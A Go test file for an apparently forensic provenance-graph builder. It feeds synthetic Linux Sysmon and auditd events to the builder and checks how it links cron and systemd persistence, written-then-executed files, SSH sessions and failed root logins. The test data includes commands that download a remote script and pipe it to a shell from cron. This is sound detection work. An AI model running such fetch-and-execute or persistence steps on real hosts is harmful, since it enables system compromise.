package provenance

import (
	"slices"
	"testing"
	"time"

	"ashiato/internal/event"
	"ashiato/internal/normalize"
	"ashiato/internal/world"
)

// linuxEvents makes events of Sysmon for Linux and of the audit log, a second apart.
func linuxEvents(records ...[]string) []*event.Event {
	var all []*event.Event
	for i, r := range records {
		t := time.Date(2026, 3, 23, 2, 0, i, 0, time.UTC)
		e := &event.Event{Provider: "Linux-Sysmon", Channel: "Linux-Sysmon/Operational", Host: "web-1", Time: t, Logged: t, ID: 1}
		switch r[0] {
		case "write":
			e.ID = 11
		case "session":
			e.Provider, e.Channel, e.ID = "auditd", "auditd", 1105
		}
		for j := 1; j+1 < len(r); j += 2 {
			e.Data = append(e.Data, event.Field{Name: r[j], Value: r[j+1]})
		}
		e.Ref = event.EvidenceRef{Host: e.Host, Channel: e.Channel, RecordID: uint64(i + 1), File: "t", SHA256: [32]byte{byte(i), 1}}
		normalize.Event(e)
		all = append(all, e)
	}
	return all
}

func linuxStart(pid, image, cmd, parent, parentImage, ses string) []string {
	return []string{
		"start", "ProcessGuid", "{00000000-0000-0000-0000-0000000000" + pid + "}", "ProcessId", pid, "Image", image, "CommandLine", cmd, "CurrentDirectory", "/root",
		"TerminalSessionId", ses, "ParentProcessGuid", "{00000000-0000-0000-0000-0000000000" + parent + "}", "ParentProcessId", parent, "ParentImage", parentImage,
	}
}

func linuxWrite(pid, image, path string) []string {
	return []string{"write", "ProcessGuid", "{00000000-0000-0000-0000-0000000000" + pid + "}", "ProcessId", pid, "Image", image, "TargetFilename", path}
}

func TestLinuxUnits(t *testing.T) {
	const none = "4294967295"
	for _, tt := range []struct {
		name   string
		events []*event.Event
		joins  []string // the join words of arrows that carry lineage into the last process
		not    []string
	}{
		{"cron runs what names the same address", linuxEvents(
			linuxStart("20", "/usr/bin/bash", "bash i.sh", "10", "/usr/bin/bash", none),
			linuxStart("21", "/usr/bin/curl", "curl -o x http://203.0.113.9/i.sh", "20", "/usr/bin/bash", none),
			linuxWrite("20", "/usr/bin/bash", "/etc/cron.d/x"),
			linuxStart("30", "/usr/bin/dash", "/bin/sh -c (curl http://203.0.113.9/i.sh)|sh", "05", "/usr/sbin/cron", none),
		), []string{"unit-run"}, nil},
		{"cron runs something else", linuxEvents(
			linuxStart("20", "/usr/bin/bash", "bash i.sh", "10", "/usr/bin/bash", none),
			linuxWrite("20", "/usr/bin/bash", "/etc/cron.d/x"),
			linuxStart("30", "/usr/bin/dash", "/bin/sh -c run-parts /etc/cron.hourly", "05", "/usr/sbin/cron", none),
		), nil, []string{"unit-run"}},
		{"the hourly folder", linuxEvents(
			linuxStart("20", "/usr/bin/bash", "bash i.sh", "10", "/usr/bin/bash", none),
			linuxWrite("20", "/usr/bin/bash", "/etc/cron.hourly/x"),
			linuxStart("30", "/usr/bin/dash", "/bin/sh /etc/cron.hourly/x", "05", "/usr/bin/run-parts", none),
		), []string{"unit-run", "file-written-then-interpreted"}, nil},
		{"systemd runs the program that the same tree wrote", linuxEvents(
			linuxStart("20", "/usr/bin/bash", "bash i.sh", "10", "/usr/bin/bash", none),
			linuxWrite("20", "/usr/bin/bash", "/opt/K"),
			linuxWrite("20", "/usr/bin/bash", "/etc/systemd/system/k.service"),
			linuxStart("30", "/opt/K", "/opt/K -x", "01", "/usr/lib/systemd/systemd", none),
		), []string{"unit-run", "file-written-then-executed"}, nil},
		{"another letter is another file", linuxEvents(
			linuxStart("20", "/usr/bin/bash", "bash i.sh", "10", "/usr/bin/bash", none),
			linuxWrite("20", "/usr/bin/bash", "/opt/K"),
			linuxWrite("20", "/usr/bin/bash", "/etc/systemd/system/k.service"),
			linuxStart("30", "/opt/k", "/opt/k -x", "01", "/usr/lib/systemd/systemd", none),
		), nil, []string{"unit-run", "file-written-then-executed"}},
		{"a script without an extension", linuxEvents(
			linuxStart("20", "/usr/bin/curl", "curl", "10", "/usr/bin/bash", none),
			linuxWrite("20", "/usr/bin/curl", "/root/run"),
			linuxStart("30", "/usr/bin/python3.11", "python3 run -v", "05", "/usr/bin/zsh", none),
		), []string{"file-written-then-interpreted"}, nil},
		{"the session of a logon over SSH", linuxEvents(
			[]string{"session", "type", "USER_START", "pid", "40", "ses", "7", "acct", "mori", "exe", "/usr/sbin/sshd", "addr", "203.0.113.9", "res", "success"},
			linuxStart("30", "/usr/bin/bash", "-bash", "41", "/usr/sbin/sshd", "7"),
		), []string{"logon-id"}, nil},
		{"the session of somebody else", linuxEvents(
			[]string{"session", "type", "USER_START", "pid", "40", "ses", "7", "acct", "mori", "exe", "/usr/sbin/sshd", "addr", "203.0.113.9", "res", "success"},
			linuxStart("30", "/usr/bin/bash", "-bash", "41", "/usr/sbin/sshd", "8"),
		), nil, []string{"logon-id"}},
	} {
		b := NewBuilder(world.New(world.Limits{}))
		for _, e := range tt.events {
			b.Add(e)
		}
		g := b.Build()
		var joins []string
		for _, n := range g.Nodes() {
			if n.Kind != Process || n.Attr("ProcessId") != "30" {
				continue
			}
			for _, e := range g.In(n.ID) {
				if e.Skeleton && e.Class <= ClassB {
					joins = append(joins, e.Join)
				}
			}
		}
		for _, want := range tt.joins {
			if !slices.Contains(joins, want) {
				t.Errorf("%s: no %s among %v", tt.name, want, joins)
			}
		}
		for _, not := range tt.not {
			if slices.Contains(joins, not) {
				t.Errorf("%s: %s among %v", tt.name, not, joins)
			}
		}
	}
}

// TestGuessesBelongToTheLogon holds where tries that failed are placed.
func TestGuessesBelongToTheLogon(t *testing.T) {
	events := linuxEvents(
		[]string{"session", "type", "USER_AUTH", "pid", "40", "ses", "4294967295", "acct", "root", "exe", "/usr/sbin/sshd", "addr", "203.0.113.9", "res", "failed"},
		[]string{"session", "type", "USER_AUTH", "pid", "42", "ses", "4294967295", "acct", "root", "exe", "/usr/sbin/sshd", "addr", "203.0.113.8", "res", "failed"},
		[]string{"session", "type", "USER_START", "pid", "41", "ses", "7", "acct", "mori", "exe", "/usr/sbin/sshd", "addr", "203.0.113.9", "res", "success"},
	)
	b := NewBuilder(world.New(world.Limits{}))
	for _, e := range events {
		b.Add(e)
	}
	g := b.Build()
	session := g.Mark(events[2]).Node
	if n := g.Node(session); n == nil || n.Kind != Logon || n.Path != "203.0.113.9" {
		t.Fatalf("the logon is at %v", n)
	}
	if got := g.Mark(events[0]).Node; got != session {
		t.Errorf("the try of the same address is at %q, want %q", got, session)
	}
	if got := g.Mark(events[1]).Node; got == session {
		t.Error("the try of another address is at the logon")
	}
}
